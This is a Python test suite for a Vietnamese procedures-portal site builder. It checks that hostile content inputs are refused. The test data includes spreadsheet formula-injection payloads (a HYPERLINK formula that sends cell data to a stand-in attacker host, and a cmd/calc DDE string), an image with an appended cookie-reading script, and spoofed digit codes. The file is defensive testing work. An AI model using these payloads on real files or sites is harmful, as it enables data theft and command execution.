"""Attacks at the way in, round two (issue 19): each is refused with a located Vietnamese message, exit 1,
and the published site/ stays byte for byte as it was.

Codes in digits other than 0-9, two files writing one address, pages claiming the site's own addresses,
slow Markdown in ordinary pages and budgets for rendering, YAML 1.1 number forms, formulas in the
statistics download, oversized spreadsheets, non-regular files, trailing data after images, and a
SIGTERM during the swap.
"""

from __future__ import annotations

import sys
import unicodedata
from pathlib import Path

import pytest
from sitecheck import tree_hashes
from test_bad_inputs import KHAI_SINH, apply_edits, assert_refused, published  # noqa: F401 - fixture

from conftest import FIXTURES, Project, make_project
from thutuc.content import ascii_codes, site_addresses
from thutuc.content.catalogue import code_in_file_name
from thutuc.content.schema_check import procedure_schema


def _page(project: Project, name: str, data: bytes | str) -> None:
    target = project.content / "pages" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


# -- 1. codes are written in 0-9 only; one address, one file ----------------------------------------------

NON_ASCII_DIGITS = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Nd" and not chr(c).isascii()]


def test_every_non_ascii_decimal_digit_is_refused_in_codes():
    """Property: each Unicode decimal digit other than 0-9, in any position of a code, fails the code check."""
    assert len(NON_ASCII_DIGITS) > 600  # the whole range was read, not a sample
    pattern = procedure_schema()["properties"]["code"]["pattern"]
    compiled = __import__("re").compile(pattern)
    for digit in NON_ASCII_DIGITS:
        for position in (0, 2, 7):
            code = "1.001193"
            code = code[:position] + digit + code[position + 1:]
            assert not compiled.search(code), (digit, code)
            assert ascii_codes.foreign_digit_message(code), code
            assert code_in_file_name(f"{code}-x.yml", r"^\d\.\d{6}$") is None, code
    assert compiled.search("1.001193")


def test_custom_code_patterns_are_read_as_ascii_too():
    assert ascii_codes.ecma_pattern(r"^\d\.\d{6}$") == r"^[0-9]\.[0-9]{6}$"
    assert ascii_codes.ecma_pattern(r"^[\d.]+\w$") == r"^[0-9.]+[A-Za-z0-9_]$"
    pattern = procedure_schema(r"^BTP-\d{4}$")["properties"]["code"]["pattern"]
    assert __import__("re").search(pattern, "BTP-1234")
    assert not __import__("re").search(pattern, "BTP-１２３４")


def test_fake_page_with_full_width_code_is_refused(project: Project, published):  # noqa: F811
    """Same title, code in full-width digits: it would slugify to the real page's address and replace it."""
    real = (project.content / KHAI_SINH).read_text("utf-8")
    fake = project.content / "procedures/ho-tich/gia-mao.yml"
    fake.write_text(real.replace('code: "1.001193"', 'code: "１.００１１９３"').replace("summary: ", "summary: GIẢ MẠO "), "utf-8")
    message = assert_refused(project, published[1], "procedures/ho-tich/gia-mao.yml", 1, "code", ["U+FF11", "0–9"])
    assert "FULLWIDTH DIGIT ONE" in message


@pytest.mark.parametrize("digit", ["٣", "۳", "३", "๓"], ids=["arabic-indic", "persian", "devanagari", "thai"])
def test_related_code_in_foreign_digits_is_refused(digit, project: Project, published):  # noqa: F811
    apply_edits(project.content, [{"file": KHAI_SINH, "old": 'related: ["1.004194"]', "new": f'related: ["1.00419{digit}"]'}])
    assert_refused(project, published[1], KHAI_SINH, 57, "related[0]", ["chữ số", "0–9"])


def test_file_name_in_foreign_digits_is_refused(project: Project, published):  # noqa: F811
    source = project.content / KHAI_SINH
    source.rename(source.with_name("１.001193-dang-ky-khai-sinh.yml"))
    assert_refused(project, published[1], "procedures/ho-tich/１.001193-dang-ky-khai-sinh.yml", 1, "", ["tên tệp", "U+FF11"])


def test_two_procedures_at_one_address_are_refused_naming_both(tmp_path: Path):
    """Independently of codes: two files whose pages land on one address stop the build, both named."""
    project = make_project(tmp_path / "project", FIXTURES / "minimal",
                           extra_config="")
    config = project.root / "mkdocs.yml"
    config.write_text(config.read_text("utf-8").replace("      content_dir: content\n",
                                                        "      content_dir: content\n      code_pattern: '^[0-9][.-][0-9]{6}$'\n"), "utf-8")
    real = (project.content / KHAI_SINH).read_text("utf-8")
    (project.content / "procedures/ho-tich/ban-sao.yml").write_text(real.replace('code: "1.001193"', 'code: "1-001193"'), "utf-8")
    result = project.build()
    assert result.returncode == 1, result.stderr
    lines = [line for line in result.stderr.splitlines() if "/thu-tuc/dang-ky-khai-sinh-1-001193/" in line]
    assert lines, result.stderr
    assert all("ban-sao.yml" in line and "1.001193-dang-ky-khai-sinh.yml" in line for line in lines), lines
    assert not project.site.exists()


def test_shared_destinations_name_every_source():
    shared = site_addresses.shared_destinations([("a/index.html", "x.md"), ("b/index.html", "y.md"), ("A/index.html", "z.md")])
    assert shared == [("a/index.html", ["x.md", "z.md"])]
    assert "x.md và z.md" in site_addresses.shared_message(*shared[0])


# -- 3. the site's own addresses are not for ordinary pages --------------------------------------------------


@pytest.mark.parametrize(
    "name, data",
    [
        ("admin.md", "# Đăng nhập biên tập\n\nNhập mật khẩu tại đây.\n"),
        ("admin/index.md", "# Đăng nhập\n"),
        ("assets/images/favicon.png", bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")),
        ("thong-ke.md", "# Thống kê giả\n"),
        ("tim-kiem.md", "# Tìm kiếm\n"),
        ("index.md", "# Trang chủ giả\n"),
        ("thu-tuc/dang-ky-khai-sinh-1-001193.md", "# Trang giả\n"),
        ("schema/index.md", "# Lược đồ\n"),
    ],
    ids=["admin", "admin-folder", "favicon", "statistics", "search", "home", "procedure", "schema"],
)
def test_pages_cannot_claim_the_sites_own_addresses(name, data, project: Project, published):  # noqa: F811
    _page(project, name, data)
    assert_refused(project, published[1], f"pages/{name}", 1, "", ["thuộc về trang web"])


def test_default_portal_pages_may_be_written_by_editors(project: Project):
    _page(project, "gioi-thieu.md", "# Giới thiệu\n\nCổng thông tin của tỉnh.\n")
    result = project.build()
    assert result.returncode == 0, result.stderr
    assert "Cổng thông tin của tỉnh." in project.html("gioi-thieu/")


def test_every_top_level_name_of_a_built_site_is_reserved(published):  # noqa: F811
    site = published[0].site
    names = {p.name.removesuffix(".gz") for p in site.iterdir()}  # a precompressed twin shares its page's name
    assert names - site_addresses.RESERVED_SEGMENTS - site_addresses.OVERRIDABLE_PAGES == set()


# -- 2. ordinary pages have the Markdown limits, the time guard and budgets --------------------------------------

# Generated constructs of growing size: in one paragraph (they must hit a limit) and spread over paragraphs
# (each under the limits: their rendering must grow linearly).
CONSTRUCTS = {
    "unclosed-fences": lambda n: "```x\na\n" * n,
    "closed-fences": lambda n: "```\na\n```\n\n" * n,
    "emphasis-run": lambda n: "*a" * n,
    "strong-run": lambda n: "**a" * n,
    "mixed-emphasis": lambda n: "*_" * n,
    "underscores": lambda n: "_a" * n,
    "backticks": lambda n: "`a" * n,
    "emphasis-paragraphs": lambda n: ("*a" * 500 + "\n\n") * (n // 500),
    "unclosed-brackets": lambda n: "[" * n,
    "links-without-end": lambda n: "[a](" * n,
    "nested-brackets": lambda n: "[" * (n // 100) + "a" + "]" * (n // 100),
    "nested-lists": lambda n: "".join("    " * (i % 12) + "- a\n" for i in range(n // 10)),
    "nested-quotes": lambda n: "> " * (n // 10) + "a",
    "ordered-lists": lambda n: "1. " * (n // 10) + "a",
    "autolinks": lambda n: "<http://" * n,
    "entities": lambda n: "&#" * n,
    "escapes": lambda n: "\\*" * n,
    "table-cells": lambda n: "a|b\n-|-\n" + "*a*|`b`\n" * n,
}


def _page_converter():
    import markdown

    from thutuc.render.markdown import NoRawHtml
    return markdown.Markdown(extensions=["toc", "tables", "fenced_code", NoRawHtml()])  # MkDocs' default extensions


def _cpu_seconds(render, text: str) -> float:
    import time
    best = float("inf")
    for _ in range(2):  # the smaller of two: another process on the machine only ever adds time
        started = time.process_time()
        render(text)
        best = min(best, time.process_time() - started)
    return max(best, 0.002)  # below the clock's resolution nothing can be compared


@pytest.mark.parametrize("construct", list(CONSTRUCTS), ids=list(CONSTRUCTS))
def test_markdown_of_growing_size_is_refused_or_renders_in_linear_time(construct):
    """Property: at sizes n and 4n a construct is refused by the limits, or takes at most ~linear time (ratio 8, not 16)."""
    from thutuc.render.markdown import _converter, markdown_hazard

    generate = CONSTRUCTS[construct]
    # The largest pair of sizes within the limits (what validation lets through is what must be linear).
    size = next((n for n in (3000, 1000, 300, 100) if markdown_hazard(generate(4 * n)) is None), None)
    for render in (lambda t: _page_converter().convert(t), lambda t: _converter().reset().convert(t)):
        if size is None:
            break  # refused at validation from small sizes on: never rendered
        small, large = generate(size), generate(4 * size)
        assert markdown_hazard(small) is None
        ratio = _cpu_seconds(render, large) / _cpu_seconds(render, small)
        assert ratio < 8, f"{construct}: 4x the text ({len(large)} characters) took {ratio:.1f}x the time"
    # Grown further in one paragraph, every super-linear construct meets a limit before it costs seconds.
    if construct in ("unclosed-fences", "emphasis-run", "strong-run", "mixed-emphasis", "underscores", "backticks",
                     "unclosed-brackets", "links-without-end", "nested-brackets", "nested-quotes",
                     "ordered-lists", "escapes"):
        assert markdown_hazard(generate(100_000)) is not None


@pytest.mark.parametrize(
    "body, line, words",
    [
        ("~~~x\na\n" * 15000, 205, ["khối mã", "tối đa 100"]),
        ("*a" * 50000, 5, ["dấu “*”", "tối đa"]),
        (("Đoạn " + "*a*" * 900 + "\n\n") * 12, 27, ["dấu “*”", "tối đa 20000"]),
    ],
    ids=["unclosed-fences", "emphasis-run", "many-markers"],
)
def test_slow_markdown_in_a_page_is_refused(body, line, words, project: Project, published):  # noqa: F811
    _page(project, "cham.md", "# Chậm\n\nĐoạn đầu.\n\n" + body)
    assert_refused(project, published[1], "pages/cham.md", line, "", words)


def test_emphasis_run_in_a_procedure_field_is_refused(project: Project, published):  # noqa: F811
    apply_edits(project.content, [{"file": KHAI_SINH, "old": "requirements: Không", "new": "requirements: \"" + "*a" * 12500 + "\""}])
    assert_refused(project, published[1], KHAI_SINH, 43, "requirements", ["dấu “*”"])


def test_a_page_that_renders_too_long_is_stopped_naming_its_file(project: Project, published, monkeypatch, capsys):  # noqa: F811
    """The time guard covers ordinary pages too: the build stops with the page's file, site/ untouched."""
    from thutuc.host import cli
    from thutuc.render import markdown as markdown_render

    _page(project, "dai.md", "# Dài\n\n" + "Một đoạn văn bình thường về thủ tục hành chính. " * 100 + "\n")
    monkeypatch.setattr(markdown_render, "RENDER_SECONDS", 1e-6)
    monkeypatch.chdir(project.root)
    code = cli.main(["build"])
    error = capsys.readouterr().err
    assert code == 1, error
    assert "content/pages/dai.md:1:1: (tệp): đoạn Markdown bắt đầu bằng “# Dài" in error, error
    assert "Chưa xuất bản" in error and "Traceback" not in error
    assert tree_hashes(project.site) == published[1]
    assert sorted(p.name for p in project.root.iterdir() if p.name.startswith("site")) == ["site"]


def test_texts_of_a_file_and_of_a_build_share_a_budget(monkeypatch):
    """Many texts each under the per-text limit cannot add up: a file and a build have budgets."""
    from thutuc.render import budget as render_budget
    from thutuc.render import markdown as markdown_render

    text = "*a " * 600  # within every limit, longer than GUARDED_LENGTH: timed
    monkeypatch.setattr(render_budget, "FILE_SECONDS", 0.02)
    render_budget.start_build()
    with pytest.raises(markdown_render.MarkdownTooSlow, match="của tệp này mất tổng cộng"):
        with render_budget.file_budget():
            for _ in range(1000):
                markdown_render.render_markdown(text + str(_))
    monkeypatch.setattr(render_budget, "FILE_SECONDS", 1000.0)
    monkeypatch.setattr(render_budget, "BUILD_SECONDS", 0.05)
    render_budget.start_build()
    with pytest.raises(markdown_render.MarkdownTooSlow, match="của cả trang web mất tổng cộng"):
        for index in range(1000):
            with render_budget.file_budget():  # a new file each time: only the build's budget runs out
                markdown_render.render_markdown(text + str(index))
    render_budget.start_build()


# -- 4. no spreadsheet formulas in the statistics download ----------------------------------------------------

STATISTICS = ("ma_thu_tuc,ky,den_ngay,tiep_nhan,truc_tuyen,dung_han,tre_han,dang_giai_quyet,tra_lai\n"
              "1.001193,2026-01,2026-03-31,10,4,8,1,0,1\n1.004194,2026-01,2026-03-31,5,5,5,0,0,0\n")


def test_statistics_download_neutralises_formulas(minimal_project: Project):
    import csv
    import io

    project = minimal_project
    (project.content / "thong-ke.csv").write_text(STATISTICS, "utf-8")
    apply_edits(project.content, [
        {"file": "fields.yml", "old": "name: Hộ tịch", "new": "name: '=HYPERLINK(\"https://ke-gian.example/?\"&A1,\"Hộ tịch\")'"},
        {"file": "fields.yml", "old": "name: Cư trú", "new": "name: '@SUM(1+1)*cmd|'' /C calc''!A0'"},
        {"file": "agencies.yml", "old": "name: Ủy ban nhân dân cấp xã", "new": "name: '+Ủy ban nhân dân cấp xã'"},
        {"file": "agencies.yml", "old": "name: Công an cấp xã", "new": "name: '-2+3 Công an cấp xã'"},
    ])
    result = project.build()
    assert result.returncode == 0, result.stderr
    downloads = sorted((project.site / "thong-ke").glob("*.csv"))
    assert len(downloads) == 2  # the plain CSV and the one Excel set to Vietnamese opens (";", decimal comma)
    for download in downloads:
        rows = list(csv.reader(io.StringIO(download.read_bytes().decode("utf-8-sig")), delimiter=";" if "excel" in download.name else ","))
        texts = [cell for row in rows for cell in row if cell and not cell.replace(",", "").replace(".", "").isdigit()]
        assert any("HYPERLINK" in cell for cell in texts) and any("Công an" in cell for cell in texts), rows
        for cell in texts:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert "'=HYPERLINK(" in download.read_text("utf-8-sig")


# -- 7. 10. the statistics file: no link out of content/, no overflow -----------------------------------------------


def test_statistics_file_linked_from_outside_content_is_refused(project: Project, published, tmp_path: Path):  # noqa: F811
    outside = tmp_path / "thong-ke.csv"
    outside.write_text(STATISTICS, "utf-8")
    (project.content / "thong-ke.csv").symlink_to(outside)
    assert_refused(project, published[1], "thong-ke.csv", 1, "", ["ngoài thư mục content/"])


@pytest.mark.parametrize("digits", [300, 5000], ids=["hundreds-of-digits", "beyond-pythons-int-limit"])
def test_statistics_count_of_many_digits_is_refused_with_the_row(digits, project: Project, published):  # noqa: F811
    (project.content / "thong-ke.csv").write_text(STATISTICS.replace(",10,4,8,1,0,1", f",{'9' * digits},4,8,1,0,1"), "utf-8")
    assert_refused(project, published[1], "thong-ke.csv", 2, "tiep_nhan", ["quá lớn", f"{digits} chữ số"])


def test_statistics_json_number_beyond_pythons_int_limit_is_refused(project: Project, published):  # noqa: F811
    record = ('{"ma_thu_tuc": "1.001193", "ky": "2026-01", "tiep_nhan": ' + "9" * 5000
              + ', "truc_tuyen": 4, "dung_han": 8, "tre_han": 1, "dang_giai_quyet": 0, "tra_lai": 1}')
    (project.content / "thong-ke.json").write_text('{"den_ngay": "2026-03-31", "so_lieu": [' + record + "]}", "utf-8")
    assert_refused(project, published[1], "thong-ke.json", 1, "", ["số quá dài"])


# -- 8. page bodies get the text checks of YAML values ------------------------------------------------------------


@pytest.mark.parametrize(
    "text, words",
    [
        ("Lệ phí: \u202e000.05\u202c đồng", ["điều khiển hướng chữ"]),
        ("Ñaêng kyù khai sinh cho treû em", ["VNI"]),
        ("Ðãng kyì khai sinh", ["Windows-1258"]),
        ("§¨ng ký khai sinh", ["lỗi mã hóa"]),
    ],
    ids=["bidi", "vni", "cp1258", "tcvn3"],
)
def test_page_body_with_bidi_or_legacy_text_is_refused(text, words, project: Project, published):  # noqa: F811
    _page(project, "le-phi.md", f"---\ntitle: Lệ phí\n---\n# Lệ phí\n\nĐoạn đầu.\n\n{text}\n")
    assert_refused(project, published[1], "pages/le-phi.md", 8, "", words)


# -- 11. non-regular files and linked folders -------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["pages/treo.md", "pages/anh/treo.png", "procedures/ho-tich/treo.yml", "fields.yml", "thong-ke.csv"])
def test_fifo_in_content_is_refused_not_waited_on(where, project: Project, published):  # noqa: F811
    import os

    target = project.content / where
    target.parent.mkdir(parents=True, exist_ok=True)
    target.unlink(missing_ok=True)
    os.mkfifo(target)
    assert_refused(project, published[1], where, 1, "", ["không phải tệp thường"])
    checked = project.run("check")
    assert checked.returncode == 1 and "không phải tệp thường" in checked.stderr, checked.stderr


def test_procedure_folder_linked_from_outside_content_is_refused(project: Project, published, tmp_path: Path):  # noqa: F811
    outside = tmp_path / "ngoai"
    outside.mkdir()
    (outside / "1.009999-gia.yml").write_text((project.content / KHAI_SINH).read_text("utf-8"), "utf-8")
    (project.content / "procedures/ngoai").symlink_to(outside, target_is_directory=True)
    assert_refused(project, published[1], "procedures/ngoai", 1, "", ["ngoài thư mục content/"])


# -- 12. images carry nothing after their image data -------------------------------------------------------------


def _image(fmt: str, **options) -> bytes:
    import io

    from PIL import Image  # a test tool here (reportlab's dependency): the build itself parses, never re-encodes

    picture = Image.new("RGB", (31, 17), (200, 10, 30))
    for x in range(31):
        picture.putpixel((x, x % 17), (x * 8, 0, 255))
    out = io.BytesIO()
    picture.save(out, fmt, **options)
    return out.getvalue()


IMAGES = {"png": ("PNG", {}), "jpg": ("JPEG", {}), "jpeg": ("JPEG", {"progressive": True}), "gif": ("GIF", {}),
          "webp": ("WEBP", {}), "lossless.webp": ("WEBP", {"lossless": True})}


@pytest.mark.parametrize("name", list(IMAGES))
def test_image_with_script_after_its_data_is_refused(name, project: Project, published):  # noqa: F811
    fmt, options = IMAGES[name]
    data = _image(fmt, **options) + b"<html><script>alert(document.cookie)</script></html>\n"
    _page(project, f"anh/a.{name}", data)  # for WebP the RIFF length still says where the image ends
    assert_refused(project, published[1], f"pages/anh/a.{name}", 1, "", ["byte dữ liệu lạ sau phần ảnh"])


def test_images_ending_where_their_format_says_are_published(project: Project):
    for name, (fmt, options) in IMAGES.items():
        _page(project, f"anh/a.{name}", _image(fmt, **options))
    result = project.build()
    assert result.returncode == 0, result.stderr
    for name, (fmt, options) in IMAGES.items():
        assert (project.site / f"anh/a.{name}").read_bytes() == _image(fmt, **options)


def test_truncated_image_is_refused(project: Project, published):  # noqa: F811
    _page(project, "anh/cut.png", _image("PNG")[:-20])
    assert_refused(project, published[1], "pages/anh/cut.png", 1, "", ["cắt cụt"])


# -- 9. a stop during the swap: the message says what happened, nothing is left behind ------------------------------


def test_sigterm_during_the_swap_publishes_and_says_so(project: Project, tmp_path: Path):
    import os
    import signal
    import subprocess
    import time

    apply_edits(project.content, [{"file": KHAI_SINH, "old": "title: Đăng ký khai sinh", "new": "title: Đăng ký khai sinh mới"}])
    pause = tmp_path / "pause"
    pause.mkdir()
    build = subprocess.Popen([sys.executable, "-m", "thutuc.host.cli", "build"], cwd=project.root, text=True,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                             env={**os.environ, "THUTUC_TEST_PAUSE": f"swapped:{pause}"})
    deadline = time.monotonic() + 300
    while not (pause / "swapped.reached").exists() and build.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)  # poll
    assert (pause / "swapped.reached").exists(), build.communicate()[0]
    build.send_signal(signal.SIGTERM)  # held by the swap, raised when it is complete
    (pause / "swapped.go").touch()
    output, _ = build.communicate(timeout=120)
    assert build.returncode == 130, output
    assert "trang web mới đã được xuất bản đầy đủ" in output, output
    assert "Chưa xuất bản" not in output and "Traceback" not in output, output
    assert "Đăng ký khai sinh mới" in project.html("thu-tuc/dang-ky-khai-sinh-moi-1-001193/")
    assert sorted(p.name for p in project.root.iterdir() if p.name.startswith("site")) == ["site"]


def test_statistics_code_in_foreign_digits_is_named(project: Project, published):  # noqa: F811
    (project.content / "thong-ke.csv").write_text(STATISTICS.replace("1.004194,", "1.００4194,"), "utf-8")
    assert_refused(project, published[1], "thong-ke.csv", 3, "ma_thu_tuc", ["U+FF10", "0–9"])


def test_overlay_named_in_foreign_digits_is_refused(project: Project, published):  # noqa: F811
    (project.content / "overlays").mkdir()
    (project.content / "overlays/1.00119３.yml").write_text("requirements: Có\n", "utf-8")
    assert_refused(project, published[1], "overlays/1.00119３.yml", 1, "", ["U+FF13"])


def test_two_form_files_for_one_address_stop_the_build_naming_both(project: Project, published):  # noqa: F811
    """The last guard: every output is compared, here two written paths that name one download address."""
    (project.content / "ho-tich").mkdir()
    (project.content / "ho-tich/to-khai-dang-ky-khai-sinh.txt").write_text("Tờ khai giả mạo\n", "utf-8")
    apply_edits(project.content, [{"file": KHAI_SINH, "old": "files: [forms/ho-tich/to-khai-dang-ky-khai-sinh.txt]",
                                   "new": "files: [forms/ho-tich/to-khai-dang-ky-khai-sinh.txt, ho-tich/to-khai-dang-ky-khai-sinh.txt]"}])
    result = project.build()
    assert result.returncode == 1, result.stderr
    lines = [line for line in result.stderr.splitlines() if "/bieu-mau/ho-tich/to-khai-dang-ky-khai-sinh.txt" in line]
    assert lines and "content/forms/ho-tich/to-khai-dang-ky-khai-sinh.txt" in lines[0], result.stderr
    assert "content/ho-tich/to-khai-dang-ky-khai-sinh.txt" in lines[0] and "Traceback" not in result.stderr
    assert "Chưa xuất bản" in result.stderr
    assert tree_hashes(project.site) == published[1]
